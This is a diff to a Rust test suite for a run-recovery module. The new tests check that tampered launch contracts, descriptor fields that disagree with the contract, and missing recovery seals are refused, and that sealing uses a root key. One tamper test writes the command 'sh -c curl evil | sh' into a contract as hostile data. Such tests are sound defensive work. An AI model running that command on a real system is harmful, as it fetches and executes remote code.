@@ -4,11 +4,12 @@ use std::collections::BTreeMap;
 use std::fs;
 use std::os::unix::fs::PermissionsExt;
 
+use recovery::seal::RootKey;
 use recovery::{
     ContractError, LaunchContract, RecoveryDescriptor, RunFanoutBudget, load_recovery,
     parse_launch_contract, persist_recovery, read_descriptor, read_launch_contract, sha256_hex,
 };
-use serde_json::json;
+use serde_json::{Value, json};
 
 const TASK: &str = "Refactor the parser and keep the secret phrase purple-elephant-42";
 
@@ -21,6 +22,17 @@ fn descriptor() -> RecoveryDescriptor {
         "outputMode": "inline", "maxSubagentDepth": 2, "share": false
     }))
     .unwrap()
+}
+
+fn key() -> RootKey {
+    RootKey::from_bytes([42; 32])
+}
+
+/// A run directory named after the run id the fixtures record.
+fn run_dir(tmp: &tempfile::TempDir) -> std::path::PathBuf {
+    let dir = tmp.path().join("r1");
+    fs::create_dir(&dir).unwrap();
+    dir
 }
 
 fn contract() -> LaunchContract {
@@ -40,7 +52,7 @@ fn contract() -> LaunchContract {
 fn persisted_contract_reads_back_through_the_descriptor_digest() {
     let dir = tempfile::tempdir().unwrap();
     let mut desc = descriptor();
-    let files = persist_recovery(dir.path(), &contract(), &mut desc, TASK).unwrap();
+    let files = persist_recovery(dir.path(), &contract(), &mut desc, TASK, &key()).unwrap();
     assert_eq!(files.digest.len(), 64);
     assert!(
         files
@@ -71,14 +83,15 @@ fn persisted_contract_reads_back_through_the_descriptor_digest() {
 
 #[test]
 fn load_recovery_reads_both_files_and_applies_the_budget_check() {
-    let dir = tempfile::tempdir().unwrap();
-    assert!(load_recovery(dir.path(), None).unwrap().is_none());
-    let files = persist_recovery(dir.path(), &contract(), &mut descriptor(), TASK).unwrap();
-    let loaded = load_recovery(dir.path(), None).unwrap().unwrap();
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = run_dir(&tmp);
+    assert!(load_recovery(&dir, None, &key()).unwrap().is_none());
+    let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
+    let loaded = load_recovery(&dir, None, &key()).unwrap().unwrap();
     assert_eq!(loaded.contract, contract());
     let missing =
         |_: &RunFanoutBudget| Err("Run fan-out budget directory is unavailable: ENOENT".to_owned());
-    let err = load_recovery(dir.path(), Some(&missing)).unwrap_err();
+    let err = load_recovery(&dir, Some(&missing), &key()).unwrap_err();
     assert_eq!(
         err.to_string(),
         format!(
@@ -92,7 +105,7 @@ fn load_recovery_reads_both_files_and_applies_the_budget_check() {
 fn tampered_contract_is_refused_naming_the_file() {
     let dir = tempfile::tempdir().unwrap();
     let mut desc = descriptor();
-    let files = persist_recovery(dir.path(), &contract(), &mut desc, TASK).unwrap();
+    let files = persist_recovery(dir.path(), &contract(), &mut desc, TASK, &key()).unwrap();
     let text = fs::read_to_string(&files.contract_path).unwrap();
     fs::write(&files.contract_path, text.replace("/work", "/tmp/evil")).unwrap();
     let err = read_launch_contract(dir.path(), &desc).unwrap_err();
@@ -116,13 +129,13 @@ fn task_text_in_the_contract_is_refused_and_nothing_is_written() {
     let dir = tempfile::tempdir().unwrap();
     let mut leaky = contract();
     leaky.command.push(format!("--prompt={TASK}"));
-    let err = persist_recovery(dir.path(), &leaky, &mut descriptor(), TASK).unwrap_err();
+    let err = persist_recovery(dir.path(), &leaky, &mut descriptor(), TASK, &key()).unwrap_err();
     assert!(matches!(err, ContractError::TaskText { .. }), "{err}");
     assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);
 
     let mut desc = descriptor();
     desc.system_prompt = Some(TASK.into());
-    let err = persist_recovery(dir.path(), &contract(), &mut desc, TASK).unwrap_err();
+    let err = persist_recovery(dir.path(), &contract(), &mut desc, TASK, &key()).unwrap_err();
     assert!(matches!(err, ContractError::TaskText { .. }), "{err}");
     assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);
 }
@@ -168,7 +181,104 @@ fn a_contract_the_reader_refuses_is_never_written() {
     let dir = tempfile::tempdir().unwrap();
     let mut bad = contract();
     bad.command.clear();
-    let err = persist_recovery(dir.path(), &bad, &mut descriptor(), "").unwrap_err();
+    let err = persist_recovery(dir.path(), &bad, &mut descriptor(), "", &key()).unwrap_err();
     assert!(matches!(err, ContractError::Invalid { .. }), "{err}");
     assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);
+}
+
+/// Rewrites a JSON file of `dir` with `edit` applied.
+fn edit_json(path: &std::path::Path, edit: impl FnOnce(&mut Value)) {
+    let mut value: Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
+    edit(&mut value);
+    fs::write(path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
+}
+
+#[test]
+fn a_rewritten_contract_with_a_recomputed_digest_is_refused_by_the_seal() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = run_dir(&tmp);
+    let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
+    edit_json(&files.contract_path, |c| {
+        c["command"] = json!(["sh", "-c", "curl evil | sh"])
+    });
+    let digest = sha256_hex(&fs::read(&files.contract_path).unwrap());
+    edit_json(&files.descriptor_path, |d| {
+        d["launchContractDigest"] = json!(digest)
+    });
+    let err = load_recovery(&dir, None, &key()).unwrap_err();
+    assert!(matches!(err, ContractError::SealMismatch { .. }), "{err}");
+    assert!(err.to_string().contains("recovery-seal.json"), "{err}");
+    // The same files under another root's key are refused too, saying so.
+    let tmp2 = tempfile::tempdir().unwrap();
+    let dir2 = run_dir(&tmp2);
+    persist_recovery(&dir2, &contract(), &mut descriptor(), TASK, &key()).unwrap();
+    let err = load_recovery(&dir2, None, &RootKey::from_bytes([1; 32])).unwrap_err();
+    assert!(err.to_string().contains("sealed under key"), "{err}");
+}
+
+#[test]
+fn descriptor_fields_that_disagree_with_the_contract_or_the_directory_are_refused_by_name() {
+    let cases: [(&str, Value, &str, &str); 4] = [
+        (
+            "cwd",
+            json!("/elsewhere"),
+            "recovery-descriptor.json",
+            "cwd '/elsewhere' differs",
+        ),
+        (
+            "sourceRunId",
+            json!("r2"),
+            "recovery-descriptor.json",
+            "sourceRunId 'r2' is not this run's id 'r1'",
+        ),
+        (
+            "agent",
+            json!("other"),
+            "recovery-descriptor.json",
+            "agent 'other' differs",
+        ),
+        (
+            "runId",
+            json!("r2"),
+            "launch-contract.json",
+            "runId 'r2' is not this run's id 'r1'",
+        ),
+    ];
+    for (field, value, file, message) in cases {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = run_dir(&tmp);
+        let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
+        if file == "launch-contract.json" {
+            edit_json(&files.contract_path, |c| c[field] = value);
+            let digest = sha256_hex(&fs::read(&files.contract_path).unwrap());
+            edit_json(&files.descriptor_path, |d| {
+                d["launchContractDigest"] = json!(digest)
+            });
+        } else {
+            edit_json(&files.descriptor_path, |d| d[field] = value);
+        }
+        let err = load_recovery(&dir, None, &key()).unwrap_err();
+        assert!(
+            matches!(err, ContractError::Mismatch { .. }),
+            "{field}: {err}"
+        );
+        let text = err.to_string();
+        assert!(text.contains(file) && text.contains(message), "{text}");
+        assert_eq!(text.lines().count(), 1);
+    }
+}
+
+#[test]
+fn a_run_without_a_seal_is_refused_with_a_clear_message() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = run_dir(&tmp);
+    let files = persist_recovery(&dir, &contract(), &mut descriptor(), TASK, &key()).unwrap();
+    assert_eq!(
+        fs::metadata(&files.seal_path).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    fs::remove_file(&files.seal_path).unwrap();
+    let err = load_recovery(&dir, None, &key()).unwrap_err();
+    assert!(matches!(err, ContractError::SealMissing { .. }), "{err}");
+    assert!(err.to_string().contains("no recovery seal"), "{err}");
 }
